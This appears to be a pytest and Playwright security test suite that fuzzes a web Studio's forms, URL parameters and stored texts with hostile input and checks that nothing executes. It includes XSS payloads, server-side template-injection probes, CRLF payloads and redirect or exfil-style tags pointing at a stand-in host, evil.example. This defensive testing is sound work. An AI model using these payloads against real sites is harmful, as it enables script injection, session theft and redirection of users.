"""Strangers' words in every field, address and text of the Studio: nothing runs, is computed, or breaks."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from pathlib import Path
from random import Random
from urllib.parse import quote, unquote_plus

import httpx
import pytest
from playwright.sync_api import Browser, Page

from content_engine.domain.canon import canonical, from_canonical, version_of
from content_engine.domain.verdicts import Verdict, Violation
from content_engine.domain.writing import Evidence, Score, WrittenVariant
from content_engine.web.studio.routes import PAGES
from tests.doors.browsing import browser
from tests.doors.conftest import ACME
from tests.doors.hostile_looks import FORMS, Canary, acting
from tests.doors.studio_showcase import Showcase, a_run, changed, copied, desk, filled, signed_in
from tests.doors.studio_stage import Person, staged

DATA = Path(__file__).parents[1] / "data"
OWN = [
    "\"'><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>", "</title><svg onload=alert(1)>",
    "javascript:alert(1)", "' autofocus onfocus=alert(1) x='", "<b hx-get=/studio/people hx-trigger=load>x</b>",
    "<i hx-on:click=alert(1) data-dialog=help>x</i>", "<style>@import 'http://evil.example/';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "</select><object data=http://evil.example/>",
    "<base href=http://evil.example/><form action=http://evil.example/><button>", "--><!--",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<details open ontoggle=alert(1)>",
    "<link rel=stylesheet href=http://evil.example/a.css>", "{{1337*4242}}${1337*4242}#{1337*4242}",
    "<%= 1337*4242 %>{% set x = 1337*4242 %}{{x}}", "{{ visit.secret }}{{ csrf }}{{ self.__init__ }}",
]  # fmt: skip
COMPUTED = "5671554"
SOAK = os.environ.get("HYPOTHESIS_PROFILE") == "soak"
MOST = 60


def _lines(name: str) -> list[str]:
    return [one for one in (DATA / "payloads" / name).read_text(encoding="utf-8").splitlines() if one.strip()]


TEMPLATES = [f"zq{one}qz" for one in (*_lines("ssti.txt"), "{{1337*4242}}")]
"""Template injections between marks, by which they are found again in an answer."""
STRANGE: list[str] = [
    *_lines("xss_rsnake.txt"),
    *_lines("crlf.txt"),
    *json.loads((DATA / "naughty_strings" / "blns.json").read_text()),
]
EVERYTHING = [*OWN, *TEMPLATES, *STRANGE]
CORPUS = EVERYTHING if SOAK else [*OWN, *Random(5).sample(TEMPLATES, 12), *Random(5).sample(STRANGE, MOST - 30)]


@dataclass(frozen=True)
class Scene:
    """A Studio full of strangers' words, an admin of a hostile name, and a browser's page that reads answers."""

    show: Showcase
    admin: Person
    reader: Page
    texts: list[WrittenVariant]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as opened:
        yield opened


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory, chromium: Browser) -> Iterator[Scene]:
    folder = tmp_path_factory.mktemp("hostile")
    content = Path(shutil.copytree(ACME, folder / "acme"))
    with staged(folder, content=content) as stage:
        show = filled(stage)
        hostile_catalog(show)
        for number, payload in enumerate(one for one in OWN if one.isprintable()):
            assert stage.engine.accounts is not None
            stage.engine.accounts.invite(f"x{number}@example.com", payload[:100], ("editor",))
        desk(stage).stores.runs.add(a_run(3, *CORPUS[:40]))
        texts = [planted(show, number) for number in range(len(CORPUS))]
        admin = stage.person("admin", name="root")
        yield Scene(show, admin, chromium.new_page(), texts)


def hostile_catalog(show: Showcase) -> None:
    """Publishes the catalog again with hostile words wherever a noun takes any words that are no text of a message."""
    store = show.stage.engine.content
    current = store.current_catalog()
    assert current is not None
    catalog = from_canonical(store.catalog(current))
    words = iter(OWN * 20)
    facts = (one.model_copy(update={"statement": next(words), "source": next(words)}) for one in catalog.facts)
    told = {
        "templates": tuple(one.model_copy(update={"description": next(words)}) for one in catalog.templates),
        "segments": tuple(one.model_copy(update={"description": next(words)}) for one in catalog.segments),
        "facts": tuple(facts),
    }
    body = canonical(catalog.model_copy(update=told))
    assert store.publish(version_of(body), body, [], after=current, at=0)
    show.stage.engine.refresh()


def planted(show: Showcase, number: int) -> WrittenVariant:
    """A stored text with another payload in each of its fields; every third is approved."""
    first = desk(show.stage).stores.variants.variant(show.waiting)
    assert first is not None
    words = [CORPUS[(number + step * 7) % len(CORPUS)] for step in range(12)]
    breach = Violation(guardrail=words[1], severity="flag", span=(1, max(2, len(words[0]))), message=words[2])
    told = dict(zip(("prompt", "model", "adapter", "angle"), words[3:], strict=False))
    one = copied(
        show.stage, first, f"hostile.{number}", content={"text": words[0]}, note=words[7], tone=words[8],
        author=words[9], assigned_to=words[10], approvals=(words[11],), verdict=Verdict.of([breach]),
        evidence=(Evidence(field="text", span=(0, 1), sources=(words[1], f"{words[2]}#1")),),
        scores=(Score(evaluator=words[3], reason=words[4]), Score(evaluator=words[5], failure=words[6])),
        provenance=first.provenance.model_copy(update=told),
    )  # fmt: skip
    return changed(show.stage, one, state="approved") if number % 3 == 0 else one


def _plain(text: str) -> str:
    """A text without the backslashes that errors double."""
    return text.replace("\\", "")


WRITTEN = frozenset(map(_plain, TEMPLATES))


def is_message(answer: httpx.Response) -> bool:
    """Whether an answer is a message as it would look, in its sandbox."""
    return str(answer.headers.get("content-security-policy", "")).startswith("sandbox")


def sound(answer: httpx.Response) -> bool:
    """Whether an answer is one: never a 500, nothing computed, template injections as they were written."""
    html = answer.headers.get("content-type", "").startswith("text/html")
    is_page = html and not is_message(answer)  # a message is template source, which may name values of the brand
    marked = [unescape(one) for one in re.findall(r"zq(?:(?!zq)[^<])*?qz", answer.text)] if is_page else []
    return (
        answer.status_code < 500
        and COMPUTED not in answer.text
        and "crlf" not in answer.headers.get("set-cookie", "").lower()
        and all(_plain(one) in WRITTEN or _plain(unquote_plus(one)) in WRITTEN for one in marked)
    )


def judged(scene: Scene, answers: list[httpx.Response]) -> None:
    """Fails for answers that are not sound, and for documents in which something could act."""
    assert not [(one.request.method, str(one.url), one.status_code) for one in answers if not sound(one)]
    documents = {
        (one.text, is_message(one)) for one in answers if one.headers.get("content-type", "").startswith("text/html")
    }
    assert not acting(scene.reader, documents)


def test_what_acts_would_be_seen(scene: Scene, chromium: Browser) -> None:
    """The looks find each payload where it is not escaped, and the canary sings when one runs."""
    silent = {"javascript:alert(1)", "--><!--", "' autofocus onfocus=alert(1) x='", *(one for one in OWN if "{" in one)}
    for payload in OWN:
        page = f'<title>x</title><p title="x">{payload}'
        assert (payload in silent) == (not acting(scene.reader, [(page, False)])), payload
    assert acting(scene.reader, [("<a href=' javascript:alert(1)'>x</a>", True), ("<p onclick=x>", True)])
    with chromium.new_context(base_url=scene.show.stage.url) as context:
        canary, opened = Canary(context, scene.show.stage.url), context.new_page()
        opened.goto("/studio/sign-in")
        opened.evaluate(
            "() => { document.body.innerHTML = '<img src=http://evil.example/ onerror=alert(1)>'; alert(1); }"
        )
        canary.after(opened)
        assert {one[0] for one in canary.sung} >= {"alert", "policy", "console"}


def test_every_text_is_shown_as_it_was_written(scene: Scene) -> None:
    """In the page of each text, and in its message as a page of its own, where it has one."""
    answers = []
    for one in scene.texts:
        page = scene.admin.get(f"/studio/variants/{one.id}")
        assert page.status_code == 200
        words = re.sub(r"<[^>]*>", "", page.text.partition('id="words"')[2].partition("</section>")[0])
        assert one.content["text"].split() == [] or one.content["text"].strip() in unescape(words)
        answers += [page, scene.admin.get(f"/studio/variants/{one.id}/message", params={"frame": "dark"})]
    judged(scene, answers)


def test_every_parameter_of_every_address_takes_anything(scene: Scene) -> None:
    """A page that there is not, told in a page in which nothing acts."""
    answers = []
    for page in PAGES:
        names = re.findall(r"\{[^}]*\}", page.path)
        corpus = CORPUS if page.method == "GET" else CORPUS[:: len(CORPUS) // 8]
        for payload in corpus if names else []:
            where = re.sub(r"\{[^}]*\}", lambda _: quote(payload, safe="") or "-", page.path)  # noqa: B023 - at once
            sent = {"csrf": scene.admin.csrf} if page.method == "POST" else None
            answers.append(scene.admin.request(page.method, where, data=sent))
    judged(scene, answers)


@dataclass(frozen=True)
class Form:
    """A form as a page has it: where it goes, and what its fields hold by default."""

    method: str
    action: str
    fields: tuple[tuple[str, str], ...]

    def filled(self, words: list[str]) -> dict[str, list[str]]:
        """The form with these words in its fields, one after the other."""
        told: dict[str, list[str]] = {}
        for at, (name, _) in enumerate(self.fields):
            told.setdefault(name, []).append(words[at % len(words)])
        return told

    def with_one(self, at: int, words: str) -> dict[str, list[str]]:
        """The form as it stands, with these words in one of its fields."""
        told: dict[str, list[str]] = {}
        for number, (name, value) in enumerate(self.fields):
            told.setdefault(name, []).append(words if number == at else value)
        return told


def forms(scene: Scene) -> list[Form]:
    """Each form of the Studio with a field, once."""
    found: dict[object, Form] = {}
    hostile = [f"/studio/variants/{one.id}" for one in scene.texts[1:3]]
    for where in [*scene.show.addresses(), *scene.show.states, *hostile]:
        answer = scene.admin.get(where, follow_redirects=True)
        told = scene.reader.evaluate(FORMS, answer.text) if "html" in answer.headers["content-type"] else []
        for one in told:
            form = Form(one["method"], one["action"] or where.split("?")[0], tuple(map(tuple, one["fields"][:12])))
            names = frozenset(name for name, _ in form.fields)
            shape = re.sub(r"(?<=/variants/)[^/]+", "", form.action), form.method, names
            if form.fields and form.method != "dialog":
                found.setdefault(shape, form)
    return list(found.values())


def sent(scene: Scene, form: Form, data: dict[str, list[str]]) -> httpx.Response:
    """Sends a form as a browser would; a version is that of now, so that words come as far as they can."""
    if form.method == "get":
        return scene.admin.get(form.action, params=data)
    name = form.action.split("/")[3] if form.action.startswith("/studio/variants/") else ""
    one = desk(scene.show.stage).stores.variants.variant(name)
    if one is not None and "version" in data and data["version"][0].isdigit():
        data = data | {"version": [str(one.version)]}
    return scene.admin.post(form.action, data={"csrf": TOKENS[id(scene)], **data}, headers={"HX-Request": "false"})


TOKENS: dict[int, str] = {}
SLOW = ("/studio/sign-in", "/studio/invitations/")
"""Passwords are hashed for as long as is safe."""


def test_every_field_of_every_form_takes_anything(scene: Scene) -> None:
    """All fields at once with each payload in each of them, and each field alone in a form that is right otherwise."""
    TOKENS[id(scene)] = scene.admin.csrf
    there = forms(scene)
    assert len(there) > 20 and sum(len(one.fields) for one in there) > 80
    answers = []
    for form in there:
        corpus = CORPUS[::6] if form.action.startswith(SLOW) else CORPUS
        for number in range(len(corpus)):
            answers.append(sent(scene, form, form.filled([*corpus[number:], *corpus[:number]])))
        for at in range(len(form.fields)):
            answers += [sent(scene, form, form.with_one(at, words)) for words in (OWN[at % len(OWN)], TEMPLATES[-1])]
    judged(scene, answers)


def shown_to_a_browser(scene: Scene) -> list[str]:
    """Pages full of strangers' words."""
    show, texts = scene.show, [f"/studio/variants/{one.id}" for one in scene.texts[:: max(1, len(scene.texts) // 10)]]
    echoes = [f"/studio/subjects?user_id={quote(one)}" for one in OWN[:4]]
    echoes += [f"/studio/components?q={quote(one)}" for one in OWN[4:8]]
    runs = ["run-3", "compare?a=run-2&b=run-3", "run-3/cases/c0", "agreement"]
    several = [f"/studio/evaluations/{one}" for one in runs]
    return [*show.addresses(), "/studio/reviews?state=all", *several, *texts, *echoes]


def test_nothing_runs_in_a_browser(scene: Scene, chromium: Browser) -> None:
    """No dialog, no script, nothing that a policy had to stop, and no request to anywhere else, on any page."""
    with signed_in(scene.show.stage, chromium, "admin", name=OWN[0]) as context:
        canary, page = Canary(context, scene.show.stage.url), context.new_page()
        for where in shown_to_a_browser(scene):
            if where.endswith(("/export", "compare")):
                continue
            page.goto(where, wait_until="load")
            page.wait_for_selector(".htmx-request", state="detached")
            canary.after(page)
        for one in scene.texts[:12]:
            page.goto(f"/studio/variants/{one.id}/message", wait_until="load")
        assert not canary.sung


TYPED = """(words) => {
  const fields = [...document.querySelectorAll('main input, main textarea')].filter((one) =>
    !['hidden', 'checkbox', 'radio', 'number'].includes(one.type) && one.checkVisibility());
  fields.forEach((one) => { one.removeAttribute('maxlength'); one.value = words;
    one.dispatchEvent(new Event('input', {bubbles: true})); });
  const form = fields.length ? fields[0].form : null;
  if (form) { form.noValidate = true; form.requestSubmit(); }
  return form !== null;
}"""


def typed_into(scene: Scene) -> list[str]:
    """Each page once, without those that are no page, or whose form signs one out of the test."""
    pages = dict.fromkeys(one.split("?")[0] for one in scene.show.addresses())
    never = re.compile(r"/(export|compare|sign-in|message|studio/?|jobs|agreement|invitations/.*)$")
    return [*(one for one in pages if not never.search(one)), f"/studio/variants/{scene.texts[1].id}"]


def test_nothing_runs_of_what_is_typed_in_a_browser(scene: Scene, chromium: Browser) -> None:
    """Typed into every field that can be seen, checked while it is typed, and sent."""
    stage, typed = scene.show.stage, 0
    with signed_in(stage, chromium, "admin", name="Typist", email="typist@example.com") as context:
        canary, page = Canary(context, stage.url), context.new_page()
        for number, where in enumerate(typed_into(scene)):
            page.goto(where, wait_until="load")
            if page.evaluate(TYPED, OWN[number % len(OWN)]):
                page.wait_for_load_state("networkidle")
                typed += 1
            canary.after(page)
        assert typed > 8 and not canary.sung
